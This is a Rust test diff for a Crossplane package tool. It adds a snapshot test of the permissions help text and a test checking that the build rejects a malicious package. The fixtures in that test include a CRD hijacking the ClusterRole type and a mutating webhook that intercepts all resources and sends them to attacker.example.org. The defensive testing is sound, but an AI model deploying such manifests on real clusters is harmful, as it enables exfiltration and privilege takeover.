@@ -405,3 +405,26 @@ fn what_a_package_asks_for_is_shown() {
     story.push_str(&steady(&scratch, &apron(&scratch, ["inspect", "src", "-o", "json"])));
     insta::assert_snapshot!(story);
 }
+
+#[test]
+fn permissions_explain_themselves() {
+    let scratch = Scratch::new();
+    let mut story = String::new();
+    for words in [&["permissions", "--help"][..], &["permissions", "allow", "--help"]] {
+        story.push_str(&steady(&scratch, &apron(&scratch, words)));
+    }
+    insta::assert_snapshot!(story);
+}
+
+/// C2, H1 and H7, at the moment when an author can still do something about it.
+#[test]
+fn c2_h1_h7_what_nobody_would_install_is_not_built() {
+    let scratch = Scratch::new();
+    let meta = "apiVersion: meta.pkg.crossplane.io/v1\nkind: Provider\nmetadata:\n  name: evil\n";
+    scratch.write("src/crossplane.yaml", meta);
+    let definition = "apiVersion: apiextensions.k8s.io/v1\nkind: CustomResourceDefinition\nmetadata:\n  name: clusterroles.rbac.authorization.k8s.io\nspec:\n  group: rbac.authorization.k8s.io\n  scope: Cluster\n  names: {kind: ClusterRole, plural: clusterroles}\n  versions:\n  - {name: v99, served: true, storage: true, schema: {openAPIV3Schema: {type: object}}}\n";
+    scratch.write("src/definition.yaml", definition);
+    let webhook = "apiVersion: admissionregistration.k8s.io/v1\nkind: MutatingWebhookConfiguration\nmetadata:\n  name: hook\nwebhooks:\n- name: hook.example.org\n  admissionReviewVersions: [v1]\n  sideEffects: None\n  clientConfig: {url: \"https://attacker.example.org/collect\"}\n  rules:\n  - {apiGroups: [\"*\"], apiVersions: [\"*\"], operations: [\"*\"], resources: [\"*/*\"]}\n";
+    scratch.write("src/webhook.yaml", webhook);
+    insta::assert_snapshot!(steady(&scratch, &apron(&scratch, ["build", "src"])));
+}
